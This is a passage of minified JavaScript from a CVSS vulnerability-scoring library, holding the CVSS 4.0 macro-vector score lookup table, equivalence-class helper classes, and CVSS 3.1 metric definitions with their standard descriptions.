Map,o.REGISTERED_COMPONENTS_EDITOR_ORDER.set(o.BASE_CATEGORY,o.BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_EDITOR_ORDER.set(o.SUPPLEMENTAL_CATEGORY,o.SUPPLEMENTAL_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_EDITOR_ORDER.set(o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY,o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_EDITOR_ORDER.set(o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY,o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_EDITOR_ORDER.set(o.THREAT_CATEGORY,o.THREAT_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER.set(o.BASE_CATEGORY,o.BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER.set(o.THREAT_CATEGORY,o.THREAT_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER.set(o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY,o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER.set(o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY,o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER.set(o.SUPPLEMENTAL_CATEGORY,o.SUPPLEMENTAL_CATEGORY_VALUES),o.MV_LOOKUP={"000000":10,"000001":9.9,"000010":9.8,"000011":9.5,"000020":9.5,"000021":9.2,"000100":10,"000101":9.6,"000110":9.3,"000111":8.7,"000120":9.1,"000121":8.1,"000200":9.3,"000201":9,"000210":8.9,"000211":8,"000220":8.1,"000221":6.8,"001000":9.8,"001001":9.5,"001010":9.5,"001011":9.2,"001020":9,"001021":8.4,"001100":9.3,"001101":9.2,"001110":8.9,"001111":8.1,"001120":8.1,"001121":6.5,"001200":8.8,"001201":8,"001210":7.8,"001211":7,"001220":6.9,"001221":4.8,"002001":9.2,"002011":8.2,"002021":7.2,"002101":7.9,"002111":6.9,"002121":5,"002201":6.9,"002211":5.5,"002221":2.7,"010000":9.9,"010001":9.7,"010010":9.5,"010011":9.2,"010020":9.2,"010021":8.5,"010100":9.5,"010101":9.1,"010110":9,"010111":8.3,"010120":8.4,"010121":7.1,"010200":9.2,"010201":8.1,"010210":8.2,"010211":7.1,"010220":7.2,"010221":5.3,"011000":9.5,"011001":9.3,"011010":9.2,"011011":8.5,"011020":8.5,"011021":7.3,"011100":9.2,"011101":8.2,"011110":8,"011111":7.2,"011120":7,"011121":5.9,"011200":8.4,"011201":7,"011210":7.1,"011211":5.2,"011220":5,"011221":3,"012001":8.6,"012011":7.5,"012021":5.2,"012101":7.1,"012111":5.2,"012121":2.9,"012201":6.3,"012211":2.9,"012221":1.7,1e5:9.8,100001:9.5,100010:9.4,100011:8.7,100020:9.1,100021:8.1,100100:9.4,100101:8.9,100110:8.6,100111:7.4,100120:7.7,100121:6.4,100200:8.7,100201:7.5,100210:7.4,100211:6.3,100220:6.3,100221:4.9,101e3:9.4,101001:8.9,101010:8.8,101011:7.7,101020:7.6,101021:6.7,101100:8.6,101101:7.6,101110:7.4,101111:5.8,101120:5.9,101121:5,101200:7.2,101201:5.7,101210:5.7,101211:5.2,101220:5.2,101221:2.5,102001:8.3,102011:7,102021:5.4,102101:6.5,102111:5.8,102121:2.6,102201:5.3,102211:2.1,102221:1.3,11e4:9.5,110001:9,110010:8.8,110011:7.6,110020:7.6,110021:7,110100:9,110101:7.7,110110:7.5,110111:6.2,110120:6.1,110121:5.3,110200:7.7,110201:6.6,110210:6.8,110211:5.9,110220:5.2,110221:3,111e3:8.9,111001:7.8,111010:7.6,111011:6.7,111020:6.2,111021:5.8,111100:7.4,111101:5.9,111110:5.7,111111:5.7,111120:4.7,111121:2.3,111200:6.1,111201:5.2,111210:5.7,111211:2.9,111220:2.4,111221:1.6,112001:7.1,112011:5.9,112021:3,112101:5.8,112111:2.6,112121:1.5,112201:2.3,112211:1.3,112221:.6,2e5:9.3,200001:8.7,200010:8.6,200011:7.2,200020:7.5,200021:5.8,200100:8.6,200101:7.4,200110:7.4,200111:6.1,200120:5.6,200121:3.4,200200:7,200201:5.4,200210:5.2,200211:4,200220:4,200221:2.2,201e3:8.5,201001:7.5,201010:7.4,201011:5.5,201020:6.2,201021:5.1,201100:7.2,201101:5.7,201110:5.5,201111:4.1,201120:4.6,201121:1.9,201200:5.3,201201:3.6,201210:3.4,201211:1.9,201220:1.9,201221:.8,202001:6.4,202011:5.1,202021:2,202101:4.7,202111:2.1,202121:1.1,202201:2.4,202211:.9,202221:.4,21e4:8.8,210001:7.5,210010:7.3,210011:5.3,210020:6,210021:5,210100:7.3,210101:5.5,210110:5.9,210111:4,210120:4.1,210121:2,210200:5.4,210201:4.3,210210:4.5,210211:2.2,210220:2,210221:1.1,211e3:7.5,211001:5.5,211010:5.8,211011:4.5,211020:4,211021:2.1,211100:6.1,211101:5.1,211110:4.8,211111:1.8,211120:2,211121:.9,211200:4.6,211201:1.8,211210:1.7,211211:.7,211220:.8,211221:.2,212001:5.3,212011:2.4,212021:1.4,212101:2.4,212111:1.2,212121:.5,212201:1,212211:.3,212221:.1},o.ATTRIBUTE_SEVERITY_ORDER=[[o.AT_VALUES.P,o.AT_VALUES.P],[o.AT_VALUES.N,o.AT_VALUES.N],[o.AT_VALUES.X,o.AT_VALUES.X],[o.S_VALUES.X],[o.S_VALUES.N],[o.S_VALUES.P],[o.AU_VALUES.X],[o.AU_VALUES.N],[o.AU_VALUES.Y],[o.V_VALUES.X],[o.V_VALUES.D],[o.V_VALUES.C],[o.AC_VALUES.H,o.AC_VALUES.H],[o.AC_VALUES.L,o.AC_VALUES.L],[o.AC_VALUES.X,o.AC_VALUES.X],[o.PR_VALUES.H,o.PR_VALUES.H],[o.PR_VALUES.L,o.PR_VALUES.L],[o.PR_VALUES.N,o.PR_VALUES.N],[o.PR_VALUES.X,o.PR_VALUES.X],[o.UI_VALUES.A,o.UI_VALUES.A],[o.UI_VALUES.P,o.UI_VALUES.P],[o.UI_VALUES.N,o.UI_VALUES.N],[o.UI_VALUES.X,o.UI_VALUES.X],[o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.X,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.X,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.X],[o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.N,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.N,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.N],[o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.L,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.L,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.L],[o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.H,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.H],[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.X,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.X,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.X],[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.N,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.N,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.N,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.N,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.N,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.N],[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.L,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.L,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.L],[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.H,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.H],[o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.S,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.S,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.S,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.S,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.S],[o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.L,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.L,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.L],[o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.M,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.M,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.M],[o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.H,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.H,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.H],[o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.X,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.X,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.X],[o.E_VALUES.U],[o.E_VALUES.P],[o.E_VALUES.A],[o.E_VALUES.X],[o.R_VALUES.X],[o.R_VALUES.A],[o.R_VALUES.U],[o.R_VALUES.I],[o.RE_VALUES.X],[o.RE_VALUES.L],[o.RE_VALUES.M],[o.RE_VALUES.H],[o.U_VALUES.X],[o.U_VALUES.Clear],[o.U_VALUES.Green],[o.U_VALUES.Amber],[o.U_VALUES.Red],[o.AV_VALUES.X,o.AV_VALUES.X],[o.AV_VALUES.P,o.AV_VALUES.P],[o.AV_VALUES.L,o.AV_VALUES.L],[o.AV_VALUES.A,o.AV_VALUES.A],[o.AV_VALUES.N,o.AV_VALUES.N]]},904:(e,t)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.EqOperations36=t.EqOperations5=t.EqOperations4=t.EqOperations2=t.EqOperations1=t.EqOperations1245=t.getEqImplementations=void 0,t.getEqImplementations=()=>[a.getInstance(),i.getInstance(),s.getInstance(),n.getInstance(),r.getInstance()];class o{deriveNextLowerMacro(e){return[e.deriveNextLower(this.getEqNumber())]}lookupScoresForNextLowerMacro(e){return e[0].getLookupTableScore()}getHighestSeverityVectors(e){return this.getEq(e).getHighestSeverityVectorsUnparsed()}lookupMacroVectorDepth(e){return this.getEq(e).getVectorDepth()}}t.EqOperations1245=o;class a extends o{getEq(e){return e.getEq1()}getRelevantAttributes(){return["AV","PR","UI"]}getEqNumber(){return 1}static getInstance(){return a.instance}}t.EqOperations1=a,a.instance=new a;class i extends o{getEq(e){return e.getEq2()}getRelevantAttributes(){return["AC","AT"]}getEqNumber(){return 2}static getInstance(){return i.instance}}t.EqOperations2=i,i.instance=new i;class s extends o{getEq(e){return e.getEq4()}getRelevantAttributes(){return["SC","SI","SA"]}getEqNumber(){return 4}static getInstance(){return s.instance}}t.EqOperations4=s,s.instance=new s;class n extends o{getEq(e){return e.getEq5()}getRelevantAttributes(){return[]}getEqNumber(){return 5}static getInstance(){return n.instance}}t.EqOperations5=n,n.instance=new n;class r{static getInstance(){return r.instance}getHighestSeverityVectors(e){return e.getJointEq3AndEq6().getHighestSeverityVectorsUnparsed()}getRelevantAttributes(){return["VC","VI","VA","CR","IR","AR"]}deriveNextLowerMacro(e){const t=e.getEq3().getLevelAsInt(),o=e.getEq6().getLevelAsInt();return 1===t&&1===o||0===t&&1===o?[e.deriveNextLower(3)]:1===t&&0===o?[e.deriveNextLower(6)]:0===t&&0===o?[e.deriveNextLower(3),e.deriveNextLower(6)]:[e.deriveNextLower(3).deriveNextLower(6)]}lookupScoresForNextLowerMacro(e){let t=NaN,o=NaN;return e.length>0&&null!=e[0]&&(t=e[0].getLookupTableScore()),e.length>1&&null!=e[1]&&(o=e[1].getLookupTableScore()),isNaN(t)||isNaN(o)?isNaN(t)?o:t:Math.max(t,o)}lookupMacroVectorDepth(e){return e.getJointEq3AndEq6().getVectorDepth()}}t.EqOperations36=r,r.instance=new r},951:(e,t)=>{var o;Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss3P1Components=void 0;class a{}t.Cvss3P1Components=a,o=a,a.CONFIDENTIALITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no loss of confidentiality within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"There is some loss of confidentiality. Access to some restricted information is obtained, but the attacker does not have control over what information is obtained, or the amount or kind of loss is limited. The information disclosure does not cause a direct, serious loss to the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of confidentiality, resulting in all resources within the impacted component being divulged to the attacker. Alternatively, access to only some restricted information is obtained, but the disclosed information presents a direct, serious impact. For example, an attacker steals the administrator's password, or private encryption keys of a web server."}},a.CONFIDENTIALITY_IMPACT=[o.CONFIDENTIALITY_IMPACT_VALUES.X,o.CONFIDENTIALITY_IMPACT_VALUES.N,o.CONFIDENTIALITY_IMPACT_VALUES.L,o.CONFIDENTIALITY_IMPACT_VALUES.H],a.INTEGRITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no loss of integrity within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"Modification of data is possible, but the attacker does not have control over the consequence of a modification, or the amount of modification is limited. The data modification does not have a direct, serious impact on the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of integrity, or a complete loss of protection. For example, the attacker is able to modify any/all files protected by the impacted component. Alternatively, only some files can be modified, but malicious modification would present a direct, serious consequence to the impacted component."}},a.INTEGRITY_IMPACT=[o.INTEGRITY_IMPACT_VALUES.X,o.INTEGRITY_IMPACT_VALUES.N,o.INTEGRITY_IMPACT_VALUES.L,o.INTEGRITY_IMPACT_VALUES.H],a.AVAILABILITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no impact to availability within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"Performance is reduced or there are interruptions in resource availability. Even if repeated exploitation of the vulnerability is possible, the attacker does not have the ability to completely deny service to legitimate users. The resources in the impacted component are either partially available all of the time, or fully available only some of the time, but overall there is no direct, serious consequence to the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of availability, resulting in the attacker being able to fully deny access to resources in the impacted component; this loss is either sustained (while the attacker continues to deliver the attack) or persistent (the condition persists even after the attack has completed). Alternatively, the attacker has the ability to deny some availability, but the loss of availability presents a direct, serious consequence to the impacted component (e.g., the attacker cannot disrupt existing connections, but can prevent new connections; the attacker can repeatedly exploit a vulnerability that, in each instance of a successful attack, leaks a only small amount of memory, but after repeated exploitation causes a service to become completely unavailable)."}},a.AVAILABILITY_IMPACT=[o.AVAILABILITY_IMPACT_VALUES.X,o.AVAILABILITY_IMPACT_VALUES.N,o.AVAILABILITY_IMPACT_VALUES.L,o.AVAILABILITY_IMPACT_VALUES.H],a.CONFIDENTIALITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Confidentiality is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Confidentiality is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Confidentiality is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.CONFIDENTIALITY_REQUIREMENT=[o.CONFIDENTIALITY_REQUIREMENT_VALUES.X,o.CONFIDENTIALITY_REQUIREMENT_VALUES.L,o.CONFIDENTIALITY_REQUIREMENT_VALUES.M,o.CONFIDENTIALITY_REQUIREMENT_VALUES.H],a.INTEGRITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Integrity is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Integrity is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Integrity is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.INTEGRITY_REQUIREMENT=[o.INTEGRITY_REQUIREMENT_VALUES.X,o.INTEGRITY_REQUIREMENT_VALUES.L,o.INTEGRITY_REQUIREMENT_VALUES.M,o.INTEGRITY_REQUIREMENT_VALUES.H],a.AVAILABILITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Availability is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Availability is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Availability is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.AVAILABILITY_REQUIREMENT=[o.AVAILABILITY_REQUIREMENT_VALUES.X,o.AVAILABILITY_REQUIREMENT_VALUES.L,o.AVAILABILITY_REQUIREMENT_VALUES.M,o.AVAILABILITY_REQUIREMENT_VALUES.H],a.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"There is no impact to the integrity of the system."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"There is a partial compromise of system integrity."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"There is a total compromise of system integrity."}},a.TEMPLATE_CIA_REQUIREMENT_MODIFIED=[o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.X,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.L,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.M,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.H],a.BASE_CATEGORY={name:"base",description:"This metric reflects the qualities of a vulnerability that are constant over time and across user environments."},a.AV_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"Network",abbreviatedName:"Netw.",jsonSchemaName:"NETWORK",description:"The vulnerable component is bound to the network stack and the set of possible attackers extends beyond the other options listed below, up to and including the entire Internet."},A:{shortName:"A",value:.62,name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT_NETWORK",description:"The vulnerable component is bound to the network stack, but the attack is limited at the protocol level to a logically adjacent topology."},L:{shortName:"L",value:.55,name:"Local",jsonSchemaName:"LOCAL",description:"The vulnerable component is not bound to the network stack and the attacker's path is via read/write/execute capabilities."},P:{shortName:"P",value:.2,name:"Physical",abbreviatedName:"Phys.",jsonSchemaName:"PHYSICAL",description:"The attack requires the attacker to physically touch or manipulate the vulnerable component."}},a.AV={name:"Attack Vector",shortName:"AV",subCategory:"Exploitability Metrics",description:"This metric reflects the context by which vulnerability exploitation is possible. The more remote an attacker can be to attack a host, the greater the vulnerability score.",values:[o.AV_VALUES.X,o.AV_VALUES.N,o.AV_VALUES.A,o.AV_VALUES.L,o.AV_VALUES.P]},a.AC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.77,name:"Low",jsonSchemaName:"LOW",description:"Specialized access conditions or extenuating circumstances do not exist. An attacker can expect repeatable success when attacking the vulnerable component."},H:{shortName:"H",value:.44,name:"High",jsonSchemaName:"HIGH",description:"A successful attack depends on conditions beyond the attacker's control. That is, a successful attack cannot be accomplished at will, but requires the attacker to invest in some measurable amount of effort in preparation or execution against the vulnerable component before a successful attack can be expected."}},a.AC={name:"Attack Complexity",shortName:"AC",subCategory:"Exploitability Metrics",description:"This metric describes the conditions beyond the attacker's control that must exist in order to exploit the vulnerability.",values:[o.AC_VALUES.X,o.AC_VALUES.L,o.AC_VALUES.H]},a.PR_VALUES={X:{shortName:"X",value:1,changedValue:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,changedValue:.85,name:"None",jsonSchemaName:"NONE",description:"The attacker is unauthorized prior to attack, and therefore does not require any access to settings or files of the vulnerable system to carry out an attack."},L:{shortName:"L",value:.62,changedValue:.68,name:"Low",jsonSchemaName:"LOW",description:"The attacker requires privileges that provide basic user capabilities that could normally affect only settings and files owned by a user. Alternatively, an attacker with Low privileges has the ability to access only non-sensitive resources."},H:{shortName:"H",value:.27,changedValue:.5,name:"High",jsonSchemaName:"HIGH",description:"The attacker requires privileges that provide significant (e.g., administrative) control over the vulnerable component allowing access to component-wide settings and files."}},a.PR={name:"Privileges Required",shortName:"PR",subCategory:"Exploitability Metrics",description:"This metric describes the level of privileges an attacker must possess before successfully exploiting the vulnerability.",values:[o.PR_VALUES.X,o.PR_VALUES.N,o.PR_VALUES.L,o.PR_VALUES.H]},a.UI_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"None",jsonSchemaName:"NONE",description:"The vulnerable system can be exploited without interaction from any user."},R:{shortName:"R",value:.62,name:"Required",abbreviatedName:"Req.",jsonSchemaName:"REQUIRED",description:"Successful exploitation of this vulnerability requires a user to take some action before the vulnerability can be exploited. For example, a successful exploit may only be possible during the installation of an application by a system administrator."}},a.UI={name:"User Interaction",shortName:"UI",subCategory:"Exploitability Metrics",description:"This metric captures the requirement for a user, other than the attacker, to participate in the successful compromise of the vulnerable component.",values:[o.UI_VALUES.X,o.UI_VALUES.N,o.UI_VALUES.R]},a.S_VALUES={X:{shortName:"X",value:!1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:!1,name:"Unchanged",abbreviatedName:"Unchang.",jsonSchemaName:"UNCHANGED",description:"An exploited vulnerability can only affect resources managed by the same authority."},C:{shortName:"C",value:!0,name:"Changed",jsonSchemaName:"CHANGED",description:"An exploited vulnerability can affect resources beyond the authorization privileges intended by the vulnerable system's design."}},a.S={name:"Scope",shortName:"S",subCategory:"Exploitability Metrics",description:"Can an exploit of the vulnerability be accomplished remotely?",values:[o.S_VALUES.X,o.S_VALUES.U,o.S_VALUES.C]},a.C={name:"Confidentiality Impact",shortName:"C",subCategory:"Impact Metrics",description:"This metric measures the impact to the confidentiality of the information resources managed by a software component due to a successfully exploited vulnerability.",values:o.CONFIDENTIALITY_IMPACT},a.I={name:"Integrity Impact",shortName:"I",subCategory:"Impact Metrics",description:"This metric measures the impact to integrity of a successfully exploited vulnerability.",values:o.INTEGRITY_IMPACT},a.A={name:"Availability Impact",shortName:"A",subCategory:"Impact Metrics",description:"This metric measures the impact to the availability of the impacted component resulting from a successfully exploited vulnerability.",values:o.AVAILABILITY_IMPACT},a.BASE_CATEGORY_VALUES=[o.AV,o.AC,o.PR,o.UI,o.S,o.C,o.I,o.A],a.TEMPORAL_CATEGORY={name:"temporal",description:"This metric reflects the current state of exploit techniques or code availability."},a.E_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:.91,name:"Unproven",abbreviatedName:"Unproven",description:"No exploit code is available, or an exploit is theoretical."},P:{shortName:"P",value:.94,name:"Proof-of-Concept",abbreviatedName:"Proof-of-conc.",jsonSchemaName:"PROOF_OF_CONCEPT",description:"Proof-of-concept exploit code is available, or an attack demonstration is not practical for most systems. The code or technique is not functional in all situations and may require substantial modification by a skilled attacker."},F:{shortName:"F",value:.97,name:"Functional",jsonSchemaName:"FUNCTIONAL",description:"Functional exploit code is available. The code works in most situations where the vulnerability exists."},H:{shortName:"H",value:1,name:"High",jsonSchemaName:"HIGH",description:"Functional exploit code is available. The code is widespread and automated and works in all situations where the vulnerability exists."}},a.E={name:"Exploit Code Maturity",shortName:"E",description:"This metric measures the likelihood of the vulnerability being attacked, and is typically based on the current state of exploit techniques, exploit code availability, or active, successful exploitation of the vulnerability.",values:[o.E_VALUES.X,o.E_VALUES.U,o.E_VALUES.P,o.E_VALUES.F,o.E_VALUES.H]},a.RL_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},O:{shortName:"O",value:.95,name:"Official Fix",abbreviatedName:"Off. Fix",jsonSchemaName:"OFFICIAL_FIX",description:"A complete vendor solution is available. Either the vendor has issued an official patch, or an upgrade is available."},T:{shortName:"T",value:.96,name:"Temporary Fix",abbreviatedName:"Temp. Fix",jsonSchemaName:"TEMPORARY_FIX",description:"There is an official but temporary fix available. This includes instances where the vendor issues a temporary hotfix, tool, or workaround."},W:{shortName:"W",value:.97,name:"Workaround",jsonSchemaName:"WORKAROUND",description:"There is an unofficial, non-vendor solution available. In some cases, users of the affected technology will create a patch of their own or provide steps to work around or otherwise mitigate the vulnerability."},U:{shortName:"U",value:1,name:"Unavailable",jsonSchemaName:"UNAVAILABLE",description:"There is either no solution available or it is impossible to apply."}},a.RL={name:"Remediation Level",shortName:"RL",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:[o.RL_VALUES.X,o.RL_VALUES.O,o.RL_VALUES.T,o.RL_VALUES.W,o.RL_VALUES.U]},a.RC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:.92,name:"Unknown",description:"Report confidence is unknown."},R:{shortName:"R",value:.96,name:"Reasonable",jsonSchemaName:"REASONABLE",description:"Reasonable confidence exists, or the reported vulnerability is in a component not typically used by a target or not having a large installed base."},C:{shortName:"C",value:1,name:"Confirmed",jsonSchemaName:"CONFIRMED",description:"Confirmed confidence exists, or the exploit is functional in the environment where the vulnerability exists."}},a.RC={name:"Report Confidence",shortName:"RC",description:"This metric describes the level of confidence in the existence of the vulnerability and the credibility of the known technical details.",values:[o.RC_VALUES.X,o.RC_VALUES.U,o.RC_VALUES.R,o.RC_VALUES.C]},a.TEMPORAL_CATEGORY_VALUES=[o.E,o.RL,o.RC],a.ENVIRONMENTAL_CATEGORY={name:"environmental",description:"This metric reflects the characteristics of a vulnerability that are relevant and unique to a particular user's environment. This metric can greatly improve the accuracy of a 